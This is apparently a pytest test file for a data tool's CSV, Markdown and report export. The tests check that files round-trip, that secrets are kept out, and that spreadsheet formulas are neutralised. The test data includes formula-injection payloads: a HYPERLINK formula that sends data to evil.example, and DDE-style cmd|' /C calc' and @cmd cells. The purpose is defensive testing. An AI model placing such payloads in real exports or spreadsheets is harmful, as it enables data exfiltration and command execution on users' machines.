"""`beton export` and the `beton demo` extras: enriched accounts and users and every punch list as
CSV that round-trips through pandas and the csv module (commas, quotes, line breaks, unicode),
plays as Markdown with an index, and no secret in any file."""

from __future__ import annotations

import csv
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from test_enrich_shared import demo_output, enriched_project, fresh_copy, rule_keys, sql

from beton_runner.csvfile import write_csv
from beton_runner.enrich import CrmCsvProvider, run_enrichment
from beton_runner.export import ExportError, export_all
from llm_server.fixture import llm_server, llm_server_session  # noqa: F401

NASTY = [
    "plain",
    "comma, inside",
    'quote " inside and "quoted"',
    "line\nbreak",
    "windows\r\nline break",
    "unicode: Zürich, Ramírez, 東京, emoji 🚀",
    "  leading and trailing spaces  ",
    "=SUM(A1:A2)",
    "",
    None,
]


@pytest.fixture(scope="module")
def enriched(mock_build, tmp_path_factory):
    return enriched_project(mock_build, tmp_path_factory)


@pytest.fixture(scope="module")
def demo(mock_build, tmp_path_factory):
    return demo_output(mock_build, tmp_path_factory)


def read_csv_module(path: Path) -> tuple[list[str], list[list[str]]]:
    with path.open(newline="", encoding="utf-8-sig") as handle:
        rows = list(csv.reader(handle))
    return rows[0], rows[1:]


def assert_frame_round_trips(path: Path, expected: pd.DataFrame) -> None:
    """The CSV read back by pandas equals the warehouse table, column by column."""
    back = pd.read_csv(path, encoding="utf-8-sig")
    assert list(back.columns) == list(expected.columns)
    assert len(back) == len(expected)
    for column in expected.columns:
        want, got = expected[column], back[column]
        if pd.api.types.is_datetime64_any_dtype(want):
            assert (pd.to_datetime(got).fillna(pd.Timestamp(0)) == want.fillna(pd.Timestamp(0))).all(), column
        elif pd.api.types.is_bool_dtype(want):
            assert got.astype(bool).tolist() == want.tolist(), column
        elif pd.api.types.is_numeric_dtype(want):
            assert np.allclose(got.astype(float), want.astype(float), equal_nan=True), column
        else:
            assert (
                got.astype(object).fillna("").astype(str).tolist()
                == want.astype(object).fillna("").astype(str).tolist()
            ), column
    header, rows = read_csv_module(path)
    assert header == list(expected.columns) and len(rows) == len(expected)
    assert all(len(r) == len(header) for r in rows)


def test_write_csv_round_trips_awkward_text(tmp_path):
    # raw=True: values exactly as they are (by default "=SUM(A1:A2)" is neutralised, see below)
    frame = pd.DataFrame(
        {"id": [f"row{i}" for i in range(len(NASTY))], "text": NASTY, "number": [1.5, 2, None, 4, 5, 6, 7, 8, 9, 10]}
    )
    path = write_csv(frame, tmp_path / "nasty.csv", raw=True)
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # UTF-8 BOM for spreadsheets
    assert raw.startswith(b"\xef\xbb\xbfid,text,number\r\n")  # CRLF record ends
    assert b'"quote "" inside and ""quoted"""' in raw  # RFC 4180 quote doubling
    header, rows = read_csv_module(path)
    assert header == ["id", "text", "number"]
    assert [r[1] for r in rows] == [v if v is not None else "" for v in NASTY]
    back = pd.read_csv(path, encoding="utf-8-sig", dtype=str, keep_default_na=False)
    assert back["text"].tolist() == [v if v is not None else "" for v in NASTY]
    assert pd.read_csv(path, encoding="utf-8-sig")["number"].tolist()[:2] == [1.5, 2.0]


FORMULAS = [  # (cell, what the CSV cell must hold by default)
    ('=HYPERLINK("http://evil.example/?"&A1,"click")', '\'=HYPERLINK("http://evil.example/?"&A1,"click")'),
    ("+1+2", "'+1+2"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("-", "'-"),
    ("-0.5", "-0.5"),  # a plain number in a text cell: a spreadsheet reads it as the number
    ("+44", "+44"),
    ("-1e3", "-1e3"),
    ("a=b", "a=b"),  # only the first character counts
    (" =1", " =1"),
    ("", ""),
]


def test_write_csv_neutralises_formulas_in_text_cells_by_default(tmp_path):
    """Text cells a spreadsheet would run get a leading ' (bytes checked); numeric, boolean and
    timestamp columns are data and stay as they are, negative numbers included."""
    n = len(FORMULAS)
    frame = pd.DataFrame(
        {
            "text": [cell for cell, _ in FORMULAS],
            "score": [-0.5] * n,  # float column
            "delta": [-3] * n,  # integer column
            "flag": [True] * n,
            "at": [pd.Timestamp("2026-10-01 12:00:00")] * n,
        }
    )
    path = write_csv(frame, tmp_path / "f.csv")
    raw = path.read_bytes()

    def quoted(text: str) -> str:  # RFC 4180, by hand
        return '"' + text.replace('"', '""') + '"' if any(c in text for c in ',"\r\n') else text

    expected = (
        "\ufeff"
        + "text,score,delta,flag,at\r\n"
        + "".join(f"{quoted(want)},-0.5,-3,True,2026-10-01 12:00:00\r\n" for _, want in FORMULAS)
    )
    assert raw == expected.encode("utf-8")
    header, rows = read_csv_module(path)
    assert [r[0] for r in rows] == [want for _, want in FORMULAS]
    back = pd.read_csv(path, encoding="utf-8-sig")
    assert back["score"].tolist() == [-0.5] * n and back["delta"].tolist() == [-3] * n

    raw_path = write_csv(frame, tmp_path / "raw.csv", raw=True)
    header, rows = read_csv_module(raw_path)
    assert [r[0] for r in rows] == [cell for cell, _ in FORMULAS]  # --raw-csv: as they are


def test_write_csv_refuses_a_secret_and_writes_nothing(tmp_path, monkeypatch):
    from beton_runner.secrets import SecretInOutputError

    monkeypatch.setenv("DBT_ENV_SECRET_CLICKHOUSE_PASSWORD", 'pa"ss-w0rd-42')
    frame = pd.DataFrame({"note": ['someone pasted pa"ss-w0rd-42 here']})  # written quoted: pa""ss-w0rd-42
    with pytest.raises(SecretInOutputError) as caught:
        write_csv(frame, tmp_path / "leak.csv")
    message = str(caught.value)
    assert (
        f"{tmp_path / 'leak.csv'} would contain the value of the secret environment variable "
        "DBT_ENV_SECRET_CLICKHOUSE_PASSWORD; nothing was written" in message
    )
    assert "w0rd" not in message
    assert list(tmp_path.iterdir()) == []


def test_demo_extras_enrich_write_plays_and_export(demo, enriched):
    out, summary, console_text = demo
    export = out / "export"
    assert "Enriched 15 account(s) and 15 person(s) with simulated CRM data" in console_text
    assert (
        f"exported 15 enriched account(s), 21 user(s), {len(rule_keys())} punch list(s) and 9 play document(s)"
        in console_text
    )
    assert (export / "accounts_enriched.csv").is_file() and (export / "users_enriched.csv").is_file()
    accounts = sql(enriched, "select * from beton_marts.dim_accounts_enriched order by account_id")
    assert accounts["is_enriched"].all()
    assert_frame_round_trips(export / "accounts_enriched.csv", accounts)
    users = sql(enriched, "select * from beton_marts.dim_users_enriched order by user_id")
    assert_frame_round_trips(export / "users_enriched.csv", users)
    back = pd.read_csv(export / "users_enriched.csv", encoding="utf-8-sig")
    assert "Diego Ramírez" in back["name"].tolist()  # unicode intact


def test_every_punch_list_is_exported_in_rank_order(demo, enriched):
    export = demo[0] / "export"
    for key in rule_keys():
        table = sql(enriched, f"select * from beton_inspections.insp_{key} order by rank")
        assert_frame_round_trips(export / "punch_lists" / f"{key}.csv", table)


def test_plays_are_exported_with_an_index(demo, enriched):
    plays = demo[0] / "plays"  # where `beton report` looks (Project.plays_dir with the default --out)
    accounts = sql(
        enriched,
        "select distinct f.account_id, a.name, a.domain from beton_inspections.insp_findings f "
        "join beton_marts.dim_accounts a using (account_id)",
    )
    index = (plays / "index.md").read_text(encoding="utf-8")
    for row in accounts.itertuples():
        file_name = row.domain.replace(".", "-") + ".md"
        text = (plays / file_name).read_text(encoding="utf-8")
        assert text.startswith(f"# Sales plays: {row.name} ({row.domain})")
        assert f"[{file_name}]({file_name})" in index
    assert sorted(p.name for p in plays.glob("*.md")) == sorted(
        ["index.md", *(d.replace(".", "-") + ".md" for d in accounts["domain"])]
    )


def test_crm_import_survives_to_the_export(mock_build, tmp_path):
    """Import -> warehouse -> enriched mart -> CSV: awkward CRM text comes back byte for byte."""
    project = fresh_copy(mock_build, tmp_path, "crm")
    companies = tmp_path / "companies.csv"
    with companies.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(["Company Domain Name", "Industry", "Number of Employees", "Description", "Web Technologies"])
        writer.writerow(["acme.io", "Software, SaaS", "240", NASTY[2] + "\n" + NASTY[5], "Salesforce;Snowflake"])
        writer.writerow(["northwindlogistics.com", "Logistics", "3400", NASTY[4] + NASTY[7], ""])
    run_enrichment(project, CrmCsvProvider(companies), refresh_marts=True, vars={"beton_input": "mock"})
    summary = export_all(project, tmp_path / "out", with_plays=False)
    assert summary.plays == [] and not (tmp_path / "out" / "plays").exists()
    back = pd.read_csv(
        tmp_path / "out" / "accounts_enriched.csv", encoding="utf-8-sig", dtype=str, keep_default_na=False
    ).set_index("account_id")
    assert back.loc["acc_001", "company_description"] == NASTY[2] + "\n" + NASTY[5]
    assert back.loc["acc_001", "enriched_industry"] == "Software, SaaS"
    assert back.loc["acc_002", "company_description"] == NASTY[4] + NASTY[7]
    assert back.loc["acc_001", "tech_stack"] == "Salesforce, Snowflake"
    assert back.loc["acc_003", "is_enriched"] == "False" and back.loc["acc_003", "company_description"] == ""
    with (tmp_path / "out" / "accounts_enriched.csv").open(newline="", encoding="utf-8-sig") as handle:
        rows = {r["account_id"]: r for r in csv.DictReader(handle)}
    assert rows["acc_001"]["company_description"] == NASTY[2] + "\n" + NASTY[5]
    assert rows["acc_001"]["enrichment_provider"] == "crm_csv"


SECRET = "sk-export-SECRET-value-98765"


def test_no_secret_reaches_an_export(enriched, tmp_path, monkeypatch, llm_server):  # noqa: F811
    monkeypatch.setenv("BETON_LLM_BASE_URL", llm_server.url + "/v1")
    monkeypatch.setenv("BETON_LLM_MODEL", "test-model")
    monkeypatch.setenv("BETON_LLM_API_KEY", SECRET)
    monkeypatch.setenv("DBT_ENV_SECRET_CLICKHOUSE_PASSWORD", SECRET + "-ch")
    summary = export_all(enriched, tmp_path / "out", engine="llm")
    assert len(llm_server.requests) == 9 and all(
        r.headers["Authorization"] == f"Bearer {SECRET}" for r in llm_server.requests
    )
    assert {d.engine for d in summary.plays} == {"llm"}
    files = [p for p in (tmp_path / "out").rglob("*") if p.is_file()]
    assert len(files) == 2 + len(rule_keys()) + 9 + 1  # the csvs, a play per account on a punch list, the index
    for path in files:
        assert SECRET.encode() not in path.read_bytes(), path


def test_an_export_that_would_hold_a_secret_is_refused(enriched, tmp_path, monkeypatch):
    monkeypatch.setenv("BETON_LLM_API_KEY", "northwindlogistics")  # a value that is in the data
    with pytest.raises(ExportError, match="would contain the value of a secret environment variable"):
        export_all(enriched, tmp_path / "out", with_plays=False)
    assert [p for p in (tmp_path / "out").rglob("*") if p.is_file()] == []


def test_export_command(enriched, tmp_path):
    from click.testing import CliRunner

    from beton_runner.cli.export import export_command

    env = {"BETON_DUCKDB_PATH": str(enriched.duckdb_path), "BETON_PROJECT_DIR": str(enriched.dir)}
    result = CliRunner().invoke(export_command, ["--out", str(tmp_path / "x"), "--no-plays"], env=env)
    assert result.exit_code == 0, result.output
    assert "exported 15 enriched account(s), 21 user(s)" in result.stdout
    assert (tmp_path / "x" / "accounts_enriched.csv").is_file() and not (tmp_path / "x" / "plays").exists()


def test_an_export_that_would_hold_a_secret_names_the_file(enriched, tmp_path, monkeypatch):
    monkeypatch.setenv("POSTHOG_PERSONAL_API_KEY", "northwindlogistics")
    with pytest.raises(ExportError) as caught:
        export_all(enriched, tmp_path / "out", with_plays=False)
    assert str(caught.value).startswith(
        "accounts_enriched.csv would contain the value of a secret environment "
        "variable (POSTHOG_PERSONAL_API_KEY); nothing was exported"
    )
    assert [p for p in (tmp_path / "out").rglob("*") if p.is_file()] == []


def test_plays_that_would_hold_a_secret_are_not_written(tmp_path, monkeypatch):
    from beton_runner.plays.engine import write_play_files
    from beton_runner.plays.render import PlayDocument
    from beton_runner.secrets import SecretInOutputError

    monkeypatch.setenv("BETON_LLM_API_KEY", "sk-plays-secret-1234")
    documents = [
        PlayDocument("acc_1", "Clean", "clean.io", "# Clean\n", [], "deterministic"),
        PlayDocument("acc_2", "Leaky", "leaky.io", "# Leaky\n\nkey: sk-plays-secret-1234\n", [], "llm"),
    ]
    with pytest.raises(
        SecretInOutputError,
        match=r"leaky-io\.md would contain the value of the secret environment "
        r"variable BETON_LLM_API_KEY; nothing was written",
    ):
        write_play_files(documents, tmp_path / "plays")
    assert not (tmp_path / "plays").exists()  # not even the clean file or the index
    paths = write_play_files(documents[:1], tmp_path / "plays")
    assert sorted(p.name for p in paths) == ["clean-io.md", "index.md"]


def test_a_report_that_would_hold_a_secret_is_not_written(mock_build, tmp_path, monkeypatch):
    from beton_runner.report import build_report
    from beton_runner.secrets import SecretInOutputError

    # an account's name in the warehouse (shown in the report's tables and charts) used as a secret
    name = sql(mock_build, "select name from beton_marts.dim_accounts where account_id = 'acc_002'")["name"].iloc[0]
    monkeypatch.setenv("CLICKHOUSE_PASSWORD", name)
    out = tmp_path / "report.html"
    with pytest.raises(
        SecretInOutputError,
        match="report.html would contain the value of the secret environment "
        "variable CLICKHOUSE_PASSWORD; nothing was written",
    ):
        build_report(mock_build, out, plays_dir=tmp_path / "no-plays")
    assert list(tmp_path.iterdir()) == []


def _crm_with_formulas(mock_build, tmp_path):
    project = fresh_copy(mock_build, tmp_path, "formulas")
    companies = tmp_path / "companies.csv"
    with companies.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(["Company Domain Name", "Industry", "Description"])
        writer.writerow(["acme.io", "-2+3", '=HYPERLINK("http://evil.example","open")'])
    run_enrichment(project, CrmCsvProvider(companies), refresh_marts=True, vars={"beton_input": "mock"})
    companies.unlink()
    return project


def test_export_command_neutralises_formulas_unless_raw_csv(mock_build, tmp_path):
    from click.testing import CliRunner

    from beton_runner.cli.export import export_command

    project = _crm_with_formulas(mock_build, tmp_path)
    env = {"BETON_DUCKDB_PATH": str(project.duckdb_path), "BETON_PROJECT_DIR": str(project.dir)}
    for args, description, industry in (
        ([], '\'=HYPERLINK("http://evil.example","open")', "'-2+3"),
        (["--raw-csv"], '=HYPERLINK("http://evil.example","open")', "-2+3"),
    ):
        out = tmp_path / ("raw" if args else "safe")
        result = CliRunner().invoke(export_command, ["--out", str(out), "--no-plays", *args], env=env)
        assert result.exit_code == 0, result.output
        with (out / "accounts_enriched.csv").open(newline="", encoding="utf-8-sig") as handle:
            rows = {r["account_id"]: r for r in csv.DictReader(handle)}
        assert rows["acc_001"]["company_description"] == description, args
        assert rows["acc_001"]["enriched_industry"] == industry, args


def test_punch_list_csv_and_demo_take_raw_csv(mock_build, tmp_path, monkeypatch):
    """`beton punch-list --csv` and `beton demo` go through the same option (a name that is a
    formula, put into the real punch list)."""
    from click.testing import CliRunner

    import beton_runner.cli.punch_list as punch_list_cli
    from beton_runner.cli.build import demo

    real = punch_list_cli.read_punch_list

    def with_formula(warehouse, rule):
        frame = real(warehouse, rule)
        frame.loc[frame.index[0], "name"] = "@cmd"
        return frame

    monkeypatch.setattr(punch_list_cli, "read_punch_list", with_formula)
    env = {"BETON_DUCKDB_PATH": str(mock_build.duckdb_path), "BETON_PROJECT_DIR": str(mock_build.dir)}
    for args, want in (([], "'@cmd"), (["--raw-csv"], "@cmd")):
        path = tmp_path / f"pl{len(args)}.csv"
        result = CliRunner().invoke(
            punch_list_cli.punch_list_command, ["pql_power_users", "--csv", str(path), *args], env=env
        )
        assert result.exit_code == 0, result.output
        with path.open(newline="", encoding="utf-8-sig") as handle:
            assert next(csv.DictReader(handle))["name"] == want
    assert any(p.name == "raw_csv" for p in demo.params)
